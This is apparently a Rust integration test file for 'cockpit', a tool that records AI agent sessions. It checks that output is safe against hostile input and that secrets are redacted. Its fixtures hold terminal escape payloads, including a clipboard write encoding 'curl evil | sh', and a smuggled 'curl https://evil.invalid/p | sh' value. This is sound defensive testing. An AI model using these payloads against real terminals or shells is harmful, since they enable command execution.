//! The printing commands (`show`, `handoff`, `resume`, `sessions`, `report`)
//! on hostile or damaged input: real temporary repositories and transcripts.

mod common;
mod store_support;

use std::path::{Path, PathBuf};
use std::process::Output;

use cockpit::store::{SessionRecord, Store, ids};
use store_support::*;

/// A title-setting OSC, an OSC 52 clipboard write and a bidi override.
const NASTY: &str = "\x1b]0;pwned\x07\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\u{202e}";

fn run(dir: &Path, state: &Path, args: &[&str]) -> Output {
    cockpit(dir, state).args(args).output().unwrap()
}

/// `cockpit --config FILE sessions` in a new repository, FILE holding
/// `toml`: the output, and FILE's path.
fn sessions_with_config(toml: &str) -> (Output, PathBuf) {
    let (dir, state) = repo_and_state();
    let config = dir.path().join("c.toml");
    std::fs::write(&config, toml).unwrap();
    let args = ["--config", config.to_str().unwrap(), "sessions"];
    (run(dir.path(), state.path(), &args), config)
}

fn text(out: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

fn hostile_record(id: &str) -> SessionRecord {
    let mut record = record(id);
    record.project = format!("app{NASTY}");
    record.branch = Some(format!("main{NASTY}"));
    record.handoff = format!("handoff {NASTY}\nsecond line {NASTY}");
    for agent in &mut record.agents {
        agent.model = Some(format!("opus{NASTY}"));
        agent.last_prompt = Some(format!("prompt {NASTY}"));
        agent.agent_session_id = Some("x; curl https://evil.invalid/p | sh".into());
    }
    for t in &mut record.transcripts {
        t.path = format!("{}{NASTY}", t.path);
        t.agent_session_id = Some("x; curl https://evil.invalid/p | sh".into());
    }
    for agent in &mut record.agents {
        agent.transcript = format!("{}{NASTY}", agent.transcript);
    }
    for v in &mut record.validations {
        v.command = format!("cargo test {NASTY}");
    }
    for a in &mut record.alerts {
        a.name = format!("alert {NASTY}");
    }
    for a in &mut record.approvals {
        a.tool = format!("Bash{NASTY}");
    }
    record.files_changed.push(format!("src/{NASTY}.rs"));
    record.learnings.push(format!("learned {NASTY}"));
    record
}

fn assert_inert(what: &str, out: &Output) {
    let all = [out.stdout.as_slice(), out.stderr.as_slice()].concat();
    assert!(
        !all.contains(&0x1b) && !all.contains(&0x07),
        "{what} printed a raw escape: {:?}",
        String::from_utf8_lossy(&all)
    );
    assert!(
        !String::from_utf8_lossy(&all).contains('\u{202e}'),
        "{what} printed a bidi override"
    );
}

#[test]
fn printing_commands_never_pass_escapes_or_shell_commands_through() {
    let (dir, state) = repo_and_state();
    let id = ids::new_session_id();
    Store::open(dir.path())
        .unwrap()
        .save(&hostile_record(&id))
        .unwrap();
    for args in [
        vec!["sessions"],
        vec!["show", &id[..8]],
        vec!["handoff", &id[..8]],
        vec!["resume", &id[..8]],
    ] {
        let out = run(dir.path(), state.path(), &args);
        assert!(out.status.success(), "{args:?}: {}", text(&out));
        assert_inert(&format!("{args:?}"), &out);
    }
    let plan = text(&run(dir.path(), state.path(), &["resume", &id[..8]]));
    assert!(!plan.contains("curl"), "{plan}");
    assert!(plan.contains("no resume command"), "{plan}");
    // The record itself keeps what was there.
    let json = run(dir.path(), state.path(), &["show", &id, "--json"]);
    let back: SessionRecord = serde_json::from_slice(&json.stdout).unwrap();
    assert_eq!(back, hostile_record(&id));
}

/// `cockpit report` over one Claude transcript of `replies` (model, input tokens).
fn report(session: &str, cwd: &str, replies: &[(&str, u64)], args: &[&str]) -> Output {
    let home = tempfile::tempdir().unwrap();
    let projects = home.path().join("claude/projects/-p");
    std::fs::create_dir_all(&projects).unwrap();
    let mut lines = String::new();
    for (i, (model, input)) in replies.iter().enumerate() {
        let line = serde_json::json!({
            "type": "assistant",
            "sessionId": session,
            "cwd": cwd,
            "timestamp": "2026-02-12T16:02:27.718Z",
            "requestId": format!("r{i}"),
            "message": {"id": format!("m{i}"), "model": model, "content": [],
                "usage": {"input_tokens": input, "output_tokens": 5}}
        });
        lines.push_str(&format!("{line}\n"));
    }
    std::fs::write(projects.join("s.jsonl"), lines).unwrap();
    std::process::Command::new(env!("CARGO_BIN_EXE_cockpit"))
        .arg("report")
        .args(args)
        .env("HOME", home.path())
        .env("XDG_CONFIG_HOME", home.path().join(".config"))
        .env("CODEX_HOME", home.path().join("codex"))
        .env("CLAUDE_CONFIG_DIR", home.path().join("claude"))
        .output()
        .unwrap()
}

#[test]
fn report_totals_saturate_and_say_so() {
    let replies = [("opus", u64::MAX), ("opus", 2)];
    let out = report("s1", "/p/app", &replies, &["--json"]);
    assert!(out.status.success(), "{}", text(&out));
    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(doc["totals"]["input_tokens"], u64::MAX);
    assert_eq!(doc["totals"]["saturated"], true);
    assert_eq!(doc["sessions"][0]["input_tokens"], u64::MAX);
    assert_eq!(doc["sessions"][0]["saturated"], true);
    let table = report("s1", "/p/app", &replies, &[]);
    let table = text(&table);
    assert!(table.contains("≥18,446,744,073,709,551,615"), "{table}");
    assert!(table.contains("saturated"), "{table}");
}

#[test]
fn the_report_table_never_passes_escapes_through() {
    let (session, cwd, model) = (
        format!("s{NASTY}"),
        format!("/p/app{NASTY}"),
        format!("opus{NASTY}"),
    );
    let out = report(&session, &cwd, &[(model.as_str(), 10)], &[]);
    assert!(out.status.success(), "{}", text(&out));
    assert!(text(&out).contains("opus"), "{}", text(&out));
    assert_inert("report", &out);
}

/// A session commit made by hand: `files` in its tree, on `refs/cockpit/sessions/<id>`.
fn hand_made_session(dir: &Path, id: &str, files: &[(&str, &str)]) {
    let mut listing = String::new();
    for (name, content) in files {
        let path = dir.join(".git").join(format!("blob-{name}"));
        std::fs::write(&path, content).unwrap();
        let blob = git(dir, &["hash-object", "-w", path.to_str().unwrap()]);
        listing.push_str(&format!("100644 blob {}\t{name}\n", blob.trim()));
    }
    let mut mktree = git_cmd(dir)
        .arg("mktree")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    use std::io::Write as _;
    mktree
        .stdin
        .take()
        .unwrap()
        .write_all(listing.as_bytes())
        .unwrap();
    let tree = String::from_utf8(mktree.wait_with_output().unwrap().stdout).unwrap();
    let commit = git(dir, &["commit-tree", tree.trim(), "-m", "by hand"]);
    let refname = format!("refs/cockpit/sessions/{id}");
    git(dir, &["update-ref", &refname, commit.trim()]);
}

#[test]
fn one_damaged_or_newer_record_does_not_hide_the_others() {
    let (dir, state) = repo_and_state();
    let good = ids::new_session_id();
    Store::open(dir.path())
        .unwrap()
        .save(&record(&good))
        .unwrap();
    let corrupt = ids::new_session_id();
    hand_made_session(
        dir.path(),
        &corrupt,
        &[("session.json", "{not json"), ("format-version", "1\n")],
    );
    let newer = ids::new_session_id();
    let mut future = serde_json::to_value(fixture_record()).unwrap();
    future["id"] = newer.clone().into();
    future["format_version"] = 2.into();
    hand_made_session(
        dir.path(),
        &newer,
        &[
            ("session.json", future.to_string().as_str()),
            ("format-version", "2\n"),
        ],
    );

    let out = run(dir.path(), state.path(), &["sessions"]);
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    assert!(stdout.contains(&good[..8]), "{stdout}");
    assert!(!stdout.contains(&corrupt[..8]) && !stdout.contains(&newer[..8]));
    let lines: Vec<&str> = stderr.lines().collect();
    assert_eq!(lines.len(), 2, "one line per bad ref: {stderr}");
    assert!(
        stderr.contains(&format!("refs/cockpit/sessions/{corrupt}")),
        "{stderr}"
    );
    assert!(
        stderr.contains(&format!("refs/cockpit/sessions/{newer}")) && stderr.contains("newer"),
        "{stderr}"
    );
    let json = run(dir.path(), state.path(), &["sessions", "--json"]);
    let list: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
    assert_eq!(list.as_array().unwrap().len(), 1);

    let shown = run(dir.path(), state.path(), &["show", &newer]);
    assert!(!shown.status.success(), "a newer format is refused");
    let message = text(&shown);
    assert!(
        message.contains("newer cockpit") && message.contains("format-version 2"),
        "{message}"
    );
}

#[cfg(unix)]
#[test]
fn the_log_is_owner_only_and_bounded() {
    use std::os::unix::fs::PermissionsExt;
    let (dir, state) = repo_and_state();
    // As an older cockpit left it: world-readable, and large.
    let log_dir = state.path().join("state/cockpit");
    std::fs::create_dir_all(&log_dir).unwrap();
    std::fs::set_permissions(&log_dir, std::fs::Permissions::from_mode(0o755)).unwrap();
    let log = log_dir.join("cockpit.log");
    std::fs::write(&log, vec![b'x'; 9 << 20]).unwrap();
    std::fs::set_permissions(&log, std::fs::Permissions::from_mode(0o644)).unwrap();
    let out = run(dir.path(), state.path(), &["sessions"]);
    assert!(out.status.success(), "{}", text(&out));
    let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode(&log_dir), 0o700);
    assert_eq!(mode(&log), 0o600);
    let old = log_dir.join("cockpit.log.1");
    assert_eq!(mode(&old), 0o600);
    assert!(std::fs::metadata(&log).unwrap().len() < 1 << 20, "rotated");
    assert_eq!(std::fs::metadata(&old).unwrap().len(), 9 << 20);
}

#[test]
fn install_hooks_refuses_a_pre_tool_use_of_the_wrong_type() {
    for wrong in [r#""cockpit hook claude""#, r#"{"matcher": "*"}"#] {
        let dir = tempfile::tempdir().unwrap();
        let project = dir.path().join("p");
        let settings_dir = project.join(".claude");
        std::fs::create_dir_all(&settings_dir).unwrap();
        let settings = settings_dir.join("settings.local.json");
        let original = format!("{{\"hooks\": {{\"PreToolUse\": {wrong}}}}}\n");
        std::fs::write(&settings, &original).unwrap();
        let out = std::process::Command::new(env!("CARGO_BIN_EXE_cockpit"))
            .arg("install-hooks")
            .current_dir(&project)
            .env("HOME", dir.path())
            .env("XDG_CONFIG_HOME", dir.path().join("config"))
            .env("XDG_STATE_HOME", dir.path().join("state"))
            .env("CODEX_HOME", dir.path().join("codex"))
            .output()
            .unwrap();
        let said = text(&out);
        assert!(!out.status.success(), "{said}");
        assert!(
            said.contains("settings.local.json") && said.contains("hooks.PreToolUse"),
            "{said}"
        );
        assert_eq!(std::fs::read_to_string(&settings).unwrap(), original);
        let entries: Vec<_> = std::fs::read_dir(&settings_dir).unwrap().collect();
        assert_eq!(entries.len(), 1, "no backup, nothing written");
    }
}

#[test]
fn an_out_of_range_autosave_is_one_line_naming_file_key_and_range() {
    let (out, config) = sessions_with_config("[store]\nautosave_secs = 18446744073709551615\n");
    assert!(!out.status.success());
    let said = String::from_utf8_lossy(&out.stderr);
    assert_eq!(
        said.trim(),
        format!(
            "cockpit: config error: {}:2: key `store.autosave_secs`: 18446744073709551615 is out of range, allowed 0 to 86400",
            config.display()
        )
    );
}

#[test]
fn secrets_never_reach_the_record_or_the_handoff() {
    let dir = tempfile::tempdir().unwrap();
    init(dir.path(), true);
    let github = "ghp_0123456789abcdefghijABCDEFGHIJ012345";
    let bearer = "sk-live0123456789abcdefghij";
    let id = ids::new_session_id();
    let mut record = record(&id);
    record.validations[0].command = format!("GITHUB_TOKEN={github} cargo test");
    record.approvals[0].input_summary =
        format!("curl -H 'Authorization: Bearer {bearer}' https://api.example.invalid");
    record.handoff = format!("next: run GITHUB_TOKEN={github} cargo test");
    for agent in &mut record.agents {
        agent.last_prompt = Some(format!("use {github} to push"));
    }
    Store::open(dir.path()).unwrap().save(&record).unwrap();
    let refname = format!("refs/cockpit/sessions/{id}");
    for file in ["session.json", "handoff.md"] {
        let text = git(dir.path(), &["show", &format!("{refname}:{file}")]);
        assert!(
            !text.contains(github) && !text.contains(bearer),
            "{file}: {text}"
        );
        assert!(text.contains("[REDACTED]"), "{file}: {text}");
    }
    let message = git(dir.path(), &["log", "-1", "--format=%B", &refname]);
    assert!(!message.contains(github), "{message}");
    let json = git(dir.path(), &["show", &format!("{refname}:session.json")]);
    assert!(
        json.contains("GITHUB_TOKEN=[REDACTED] cargo test"),
        "{json}"
    );
}

#[test]
fn sessions_durations_and_handoff_figures_say_what_they_are() {
    let (dir, state) = repo_and_state();
    let id = ids::new_session_id();
    let mut record = record(&id);
    record.ended_at = Some(record.started_at + 1_500);
    record.last_saved_at = record.started_at + 1_500;
    record.gauge.transcript = Some(record.agents[0].transcript.clone());
    record.agents[0].context_tokens = 12_345;
    // Through JSON, as a record on disk: 345 of the 12,345 were estimated.
    let mut value = serde_json::to_value(&record).unwrap();
    value["agents"][0]["estimated_tokens"] = 345.into();
    let record: SessionRecord = serde_json::from_value(value).unwrap();
    Store::open(dir.path()).unwrap().save(&record).unwrap();
    let table = text(&run(dir.path(), state.path(), &["sessions"]));
    assert!(table.contains("1.5s"), "a 1.5 s session: {table}");
    let handoff = text(&run(dir.path(), state.path(), &["handoff", &id]));
    assert!(
        handoff.contains("12345 of 200000 tokens")
            && handoff.contains("12000 reported by the agent + 345 estimated"),
        "{handoff}"
    );
    assert!(handoff.contains("this prompt: about"), "{handoff}");
}

#[test]
fn a_key_bound_to_two_actions_is_refused_naming_both() {
    let (out, _) = sessions_with_config("[keys]\napprove = [\"j\"]\n");
    assert!(!out.status.success());
    let said = String::from_utf8_lossy(&out.stderr);
    assert!(
        said.contains("keys.approve and keys.down both use `j`"),
        "{said}"
    );
}

/// Law 1 across sessions: `cockpit handoff` of the latest session ends with
/// the learnings of the repository's other sessions, newest last, and the
/// outer loop's list (the summaries) carries them without reading records.
#[test]
fn the_handoff_carries_the_learnings_of_earlier_sessions() {
    let (dir, state) = repo_and_state();
    let store = Store::open(dir.path()).unwrap();
    let mut older = record(&ids::new_session_id());
    older.learnings = vec!["migrations before tests".into()];
    older.last_saved_at = older.started_at + 1_000;
    store.save(&older).unwrap();
    let mut newer = record(&ids::new_session_id());
    newer.started_at += 10_000;
    newer.last_saved_at = newer.started_at + 1_000;
    newer.learnings = vec!["the CI cache lives in target/".into()];
    store.save(&newer).unwrap();

    let handoff = text(&run(dir.path(), state.path(), &["handoff", &newer.id]));
    let own = handoff
        .find("the CI cache lives in target/")
        .expect("its own");
    let earlier = handoff
        .find("## Learned in earlier sessions")
        .expect("a section for the others");
    assert!(own < earlier, "{handoff}");
    assert!(
        handoff[earlier..].contains("- migrations before tests"),
        "{handoff}"
    );
    assert!(
        !handoff[earlier..].contains("CI cache"),
        "its own are not repeated: {handoff}"
    );

    let listed = store.list().unwrap();
    let all = cockpit::store::learnings::newest_first(&listed);
    let texts: Vec<&str> = all.iter().map(|l| l.text.as_str()).collect();
    assert_eq!(
        texts,
        ["the CI cache lives in target/", "migrations before tests"]
    );
}
